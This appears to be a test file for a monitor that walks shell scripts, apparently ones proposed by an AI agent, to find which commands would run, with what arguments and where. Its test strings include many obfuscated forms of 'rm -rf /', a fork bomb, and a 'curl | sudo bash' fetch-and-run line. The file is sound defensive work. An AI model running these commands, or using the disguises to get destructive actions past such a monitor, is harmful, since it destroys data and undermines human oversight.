"""Going through a script: what would start, with which words, where."""

import pytest

from monitors.review.knowledge.book import LAUNCHERS
from monitors.review.shell.invocation import Invocation
from monitors.review.shell.launch import LauncherBook
from monitors.review.shell.state.bounds import MAX_ASSIGNED, MAX_INVOCATIONS, MAX_WORDS
from monitors.review.shell.walk import Walk


def walked(script: str, **variables: str) -> Walk:
    walk = Walk(
        cwd="/w", variables={"HOME": "/home/u", **variables}, launchers=LauncherBook(LAUNCHERS), code=lambda _: []
    )
    walk.script(script)
    return walk


def last(script: str, **variables: str) -> Invocation:
    return walked(script, **variables).invocations[-1]


@pytest.mark.parametrize(
    "script",
    [
        "rm -rf /", "r\"m\" '-rf' /", "r\\m -rf /", "$'\\x72m' -rf /", "{rm,-rf,/}", "r''m -rf /", "r\\\nm -rf /", "F=-rf; rm $F /", "R=rm; $R -rf /", "A='rm -rf /'; $A", "$(echo rm) -rf /", "`echo rm` -rf /", "rm $(echo -rf) /",
        "eval 'rm -rf /'", "eval rm -rf /", "bash -c 'rm -rf /'", "sh -xc 'rm -rf /'", "bash --rcfile x -c 'rm -rf /'", "bash -e -c 'rm -rf /'", "bash <<< 'rm -rf /'", "bash <<EOF\nrm -rf /\nEOF", "echo 'rm -rf /' | sh", "printf 'rm -rf /' | bash",
        "echo cm0gLXJmIC8= | base64 -d | sh", "echo '/ fr- mr' | rev | sh", "echo 726d202d7266202f | xxd -r -p | bash", "echo 'sn -sg /' | tr 'n-za-m' 'a-z' >/dev/null; rm -rf /", "f() { rm -rf \"$1\"; }; f /", "f() { rm -rf /; }", "trap 'rm -rf /' EXIT", "alias x='rm -rf /'",
        "x=${y:-rm}; $x -rf /", "a=xrm; ${a:1} -rf /", "a=RM; ${a,,} -rf /", "set -- -rf /; rm -rf /", "cat <<'E' > s.sh\nrm -rf /\nE\nbash s.sh", "echo 'rm -rf /' > s; . ./s", "(((rm -rf /)))", "coproc rm -rf /", "[[ $(rm -rf /) ]]", "echo $(( a[$(rm -rf /)] ))", "((((<<'E'$(rm -rf /);))))", "echo \"${x-<(<<B\n\"\nB\n:)}\"; rm -rf /", "cat <(rm -rf /)", "echo > >(rm -rf /)", "case x in x) rm -rf /;; esac",
        "cp /bin/rm x; ./x -rf /", "ln -s /bin/rm /tmp/y && /tmp/y -rf /", "if true; then rm -rf /; fi", "for d in /; do rm -rf $d; done", "while true; do rm -rf /; done", "watch 'rm -rf /'", "ssh h 'rm -rf /'", "xargs rm -rf / < /dev/null", "echo / | xargs rm -rf", "rm -rf /&", "! rm -rf /", "time rm -rf /",
    ],
)  # fmt: skip
def test_however_it_is_written_it_is_rm(script: str) -> None:
    found = [one for one in walked(script).invocations if one.name == "rm"]
    assert found
    words = [one.args for one in found]
    assert ["-rf", "/"] in words or ["-rf", "/", "{}"] in words


@pytest.mark.parametrize(
    "outer",
    [
        "sudo -u root",
        "env A=b",
        "nice -n 5",
        "timeout 5",
        "nohup",
        "setsid -w",
        "xargs",
        "uv run",
        "npx -y",
        "docker exec web",
        "kubectl exec pod --",
        "poetry run",
        "stdbuf -oL",
        "parallel",
        "flock /tmp/l",
        "doas",
        "busybox",
    ],
)
@pytest.mark.parametrize("inner", ["rm -rf /", "sh -c 'rm -rf /'", "env rm -rf /", "bash -lc 'sudo rm -rf /'"])
def test_launchers_are_looked_through_in_any_combination(outer: str, inner: str) -> None:
    assert any(one.name == "rm" for one in walked(f"{outer} {inner}").invocations)


def test_cd_is_followed_and_a_subshell_comes_back() -> None:
    places = {
        one.args[0]: one.cwd
        for one in walked("cd a; rm x; (cd ..; rm y); rm z; cd /etc && rm w").invocations
        if one.name == "rm"
    }
    assert places == {"x": "/w/a", "y": "/w", "z": "/w/a", "w": "/etc"}


def test_variables_of_the_agent_are_known_and_others_are_not() -> None:
    known, unknown = last("rm $HOME/x $OTHER/y").args
    assert known == "/home/u/x"
    assert known.known
    assert unknown == "$OTHER/y"
    assert not unknown.known


def test_a_variable_set_for_one_command_is_forgotten_after_it() -> None:
    assert last("A=b true; echo $A").args == ["$A"]


@pytest.mark.parametrize(
    ("script", "words"),
    [
        ('x=(a b); x[1]=c; echo "${x[@]}"', ["a", "c"]),
        ("x=(a b); x+=c; echo ${x[0]} ${x[1]}", ["ac", "b"]),
        ('x[0]=a; x[1]=b; echo "${x[@]}"', ["a", "b"]),
        ('x=([1]=a [0]=b); echo "${x[@]}"', ["b", "a"]),
        ("declare -A x=(a b); echo ${x[a]}", ["b"]),
        ("x=(a b c); unset 'x[0]'; echo \"${x[@]}\"", ["b", "c"]),
        ('x=(a b); y="${x[*]}"; echo "$y"', ["a b"]),
        (": ${x:=a}; echo $x", ["a"]),
        ("x=a y=$x; echo $y", ["a"]),
        ("x=a; (x=b); echo $x", ["a"]),
    ],
)
def test_arrays_and_assignments_are_followed_as_bash_makes_them(script: str, words: list[str]) -> None:
    given = last(script).args
    assert given == words
    assert all(word.known for word in given)


@pytest.mark.parametrize(
    "script", ['x=(a b); x[i]=c; echo "${x[@]}"', 'x=([i]=a [0]=b); echo "${x[@]}"', "x=(a)b; echo $x"]
)
def test_an_element_whose_place_is_not_known_leaves_an_array_unknown(script: str) -> None:
    assert not any(word.known for word in last(script).args)


def test_of_a_place_that_only_a_condition_changes_both_count() -> None:
    assert last("D=/etc; [ -d b ] && D=b; rm -rf $D").args == ["-rf", "/etc", "b"]
    assert last("D=b; [ -d b ] && D=c; rm -rf $D").args == ["-rf", "c"]


@pytest.mark.parametrize(
    ("script", "removed"),
    [
        ('set -- a b; shift; rm "$1"', [["b"]]),
        ('set -- a b; shift 2; rm "$1"', [["$1"]]),
        ('set -- a b; shift 3; rm "$1"', [["a"]]),
        ('set -- a b; [ -d a ] && shift; rm "$1"', [["a", "b"]]),
        ('set -- a b c; while [ $1 != c ]; do shift; done; rm "$1"', [["a"], ["b"], ["c"], [""]]),
        ('f() { cd "$1"; shift; rm "$@"; }; f / a b', [["a", "b"]]),
        ('set -- -o a b; shift $((OPTIND - 1)); rm "$1"', [["-o"], ["a"], ["b"], [""]]),
        ('set -- a; f() { shift; }; f x; rm "$1"', [["a"]]),
    ],
)
def test_shift_takes_parameters_away_and_where_it_may_not_be_run_both_count(
    script: str, removed: list[list[str]]
) -> None:
    assert [one.args for one in walked(script).invocations if one.name == "rm"] == removed


def removals(script: str) -> list[tuple[str, str]]:
    return [(one.cwd, one.args[-1]) for one in walked(script).invocations if one.name == "rm"]


@pytest.mark.parametrize(
    "script",
    [
        "f() { ls; return; rm x; }; f",
        "f() { { return 1; }; rm x; }; f",
        "echo 'return; rm x' > s; . ./s",
        "bash -c 'exit 0; rm x'",
        "printf 'exit $?\nrm x\n' > s; sh s",
        "f() { return; rm x; }",
    ],
)
def test_what_stands_behind_a_return_or_an_exit_without_a_condition_is_not_run(script: str) -> None:
    assert removals(script) == []


@pytest.mark.parametrize(
    "script",
    [
        "f() { [ -d a ] && return; rm x; }; f",
        "f() { ls || return; rm x; }; f",
        "f() { if ls; then return; else rm x; fi; }; f",
        "f() { case a in b) return;; esac; rm x; }; f",
        "f() { for i in; do return; done; rm x; }; f",
        "f() { (return); rm x; }; f",
        "f() { return | cat; rm x; }; f",
        "f() { return & rm x; }; f",
        "f() { return && ls & rm x; }; f",
        "f() { echo $(return); rm x; }; f",
        "f() { { return; } > /nowhere/x; rm x; }; f",
        "f() { return 1 2; rm x; }; f",
        "return() { :; }; f() { return; rm x; }; f",
        "alias return=ls; f() { return; rm x; }; f",
        "enable -n return; f() { return; rm x; }; f",
        "trap ls DEBUG; f() { return; rm x; }; f",
        "bash -c 'return; rm x'",
        "f() { bash -c 'return; rm x'; }; f",
        "return; rm x",
        "f() { return; }; f; rm x",
    ],
)
def test_what_stands_behind_one_that_may_not_end_the_script_is_run(script: str) -> None:
    assert ("/w", "x") in removals(script)


def test_a_function_that_makes_another_of_its_name_does_not_start_itself() -> None:
    assert removals("f() { f() { rm x; }; f; }; f") == [("/w", "x")]


@pytest.mark.parametrize(
    ("script", "places"),
    [
        ("[ -d a ] && cd a; rm x", {"/w", "/w/a"}),
        ("if ls; then cd a; fi; rm x", {"/w", "/w/a"}),
        ("[[ -d a ]] && cd a && rm x", {"/w/a"}),
        ("[ -d a ] && cd a; cd b; rm x", {"/w/b", "/w/a/b"}),
        ("[ -d a ] && cd a; cd /b; rm x", {"/b"}),
        ("[ -d a ] && cd a; (cd b; rm x)", {"/w/b", "/w/a/b"}),
        ("f() { rm x; }; [ -d a ] && cd a; f", {"/w", "/w/a"}),
        ("mkdir -p a && cd a; rm x", {"/w/a"}),
        ("if ls; then cd a; cd ..; fi; rm x", {"/w"}),
    ],
)
def test_behind_a_cd_that_a_condition_may_leave_out_a_script_may_be_in_both_places(
    script: str, places: set[str]
) -> None:
    assert {cwd for cwd, _ in removals(script)} == places


@pytest.mark.parametrize(
    "script", ["vagrant ssh -c 'cd /a'; rm x", "ssh h 'cd /a'; rm x", "sudo cd /a; rm x", "su -c 'cd /a'; rm x"]
)
def test_a_cd_of_another_process_leaves_the_script_where_it_is(script: str) -> None:
    assert removals(script) == [("/w", "x")]


def test_a_cd_by_a_word_of_the_shell_moves_the_script() -> None:
    assert removals("command cd /a; rm x") == [("/a", "x")]


@pytest.mark.parametrize(
    "script",
    [
        "echo 'rm x' > /tmp/a.$$; . /tmp/a.$$",
        "F=/tmp/a.$RANDOM; echo 'rm x' > $F; sh $F",
        "cat > $D/a <<E\nrm x\nE\nbash $D/a",
    ],
)
def test_a_file_whose_name_is_not_known_is_the_one_that_was_written_by_that_name(script: str) -> None:
    assert ("/w", "x") in removals(script)


def test_cd_of_a_dash_goes_back() -> None:
    assert removals("cd /a; cd b; cd -; rm x") == [("/a", "x")]


def test_what_find_starts_beside_each_file_runs_below_where_it_looks() -> None:
    assert removals("find /a -name b -execdir rm x \\;") == [("/a/{}", "x")]
    assert removals("find /a -name b -exec rm x \\;") == [("/w", "x")]


def test_a_text_that_stands_for_what_is_printed_is_one_word_whatever_blanks_are_in_it() -> None:
    assert last("d=$(ls a b); echo x/$d ${d}y").args == ["x/$(ls a b)", "$(ls a b)y"]
    assert last('a="rm -r $(ls (a b) x)"; $a').args == ["-r", "$(ls (a b) x)"]


def test_what_a_condition_shifts_away_may_be_in_what_is_made_of_the_parameters() -> None:
    found = walked('f() { [ "$1" = -q ] && shift; local x="$*"; $x; }; f -q rm x').invocations
    assert [one.args for one in found if one.name == "rm"] == [["x"]]


def test_words_are_split_as_the_shell_splits_them() -> None:
    assert last("a='x y'; rm $a \"$a\"").args == ["x", "y", "x y"]


def test_single_quotes_keep_everything() -> None:
    assert last("echo '$(rm x) `rm y` $HOME'").args == ["$(rm x) `rm y` $HOME"]
    assert len(walked("echo '$(rm x)'").invocations) == 1


def test_a_function_that_starts_itself_twice_is_a_bomb() -> None:
    assert walked(":(){ :|:& };:").bomb == ":"
    assert walked("f(){ f; }; f").bomb == ""


def test_work_is_bounded() -> None:
    walk = walked("f() { " + "ls; " * 100 + "}; " + "f; " * 20)
    assert len(walk.invocations) == MAX_INVOCATIONS
    assert str(MAX_INVOCATIONS) in walk.too_much


def test_words_that_lines_of_a_file_become_are_counted_over_all_commands() -> None:
    names = "\n".join(f"a{at}" for at in range(50))
    walk = walked(f"cat > f <<X\n{names}\nX\n" + "xargs rm < f\n" * 100)
    assert len(walk.invocations) < 2 * MAX_WORDS / 50
    assert str(MAX_WORDS) in walk.too_much


@pytest.mark.parametrize("script", ["ls;" * 301, "cat > f <<X\n" + "a\n" * 50 + "X\n" + "xargs rm < f;" * 100])
def test_past_a_bound_of_all_commands_nothing_more_of_a_script_is_gone_through(script: str) -> None:
    asked: list[str] = []
    walk = Walk(
        cwd="/w",
        variables={},
        launchers=LauncherBook(LAUNCHERS),
        code=lambda _: [],
        text=lambda path: asked.append(path),
    )
    walk.script(f"read a < before; {script} read a < behind; f() {{ read a < behind; }}; trap 'read a < behind' EXIT")
    assert walk.too_much
    assert set(asked) == {"/w/before"}


def test_assignments_start_nothing_and_have_a_bound_of_their_own() -> None:
    many = "; ".join(f"x{at}={at}" for at in range(MAX_INVOCATIONS + 50))
    assert walked(f"{many}; rm $x1").invocations[-1].args == ["1"]
    assert not walked(many).too_much
    assert str(MAX_ASSIGNED) in walked("a=b;" * (MAX_ASSIGNED + 1)).too_much


def test_a_word_cannot_grow_without_end() -> None:
    assert len(last("a=aaaaaaaa; " + "a=$a$a; " * 60 + "echo $a").args[0]) < 100_000


def test_who_feeds_a_pipe_is_remembered() -> None:
    shell = last("curl -s https://example.com | sudo bash")
    assert [one.name for one in shell.input.source] == ["curl"]
    assert shell.elevated


def test_what_runs_elsewhere_is_marked() -> None:
    assert last("docker exec web rm x").inside == "container web"
    assert last("ssh host rm x").inside == "host host"
    assert last("rm x").inside == ""


@pytest.mark.parametrize("body", ["eval rm", "sh -c rm", "bash <<E\nrm\nE\n", "trap rm EXIT"])
def test_a_function_that_nobody_calls_is_gone_through_once(body: str) -> None:
    assert [one.name for one in walked(f"f() {{ {body}; }}").invocations].count("rm") == 1


def test_scripts_in_scripts_are_bounded_in_all_they_hold() -> None:
    assert "characters" in walked("x=" + "a" * 60_000 + "; " + 'eval ": $x";' * 6).too_much
    assert walked("ssh h <<E\n" * 6_000).too_much


@pytest.mark.parametrize(
    "script",
    [
        "declare -A op=([clean]='rm -rf /srv/x' [list]='ls -l'); ${op[clean]}",
        "declare -A op; op[clean]='rm -rf /srv/x'; op[list]='ls -l'; ${op[clean]}",
        'declare -A op; op["a b"]="rm -rf /srv/x"; eval "${op["a b"]}"',
        'declare -A p=([x]=/srv/x [y]=/srv/y); k=x; rm -rf "${p[$k]}"',
        "p=([3]=/srv/x); rm -rf ${p[3]}",
    ],
)
def test_an_element_of_an_array_is_known_by_its_key(script: str) -> None:
    assert (last(script).name, last(script).args) == ("rm", ["-rf", "/srv/x"])


def test_all_of_an_array_with_keys_are_its_elements_or_its_keys() -> None:
    assert last('declare -A d=([a]=x [b]=y); ls "${d[@]}"').args == ["x", "y"]
    assert last('declare -A d=([a]=x [b]=y); ls "${!d[@]}"').args == ["a", "b"]
    assert last("d[0]=x; d[1]=y; ls ${d[@]}").args == ["x", "y"]


def test_all_commands_of_a_list_in_the_background_move_in_a_process_of_their_own() -> None:
    assert removals("cd a && ls & rm x") == [("/w", "x")]
    assert removals("cd a; ls & rm x") == [("/w/a", "x")]
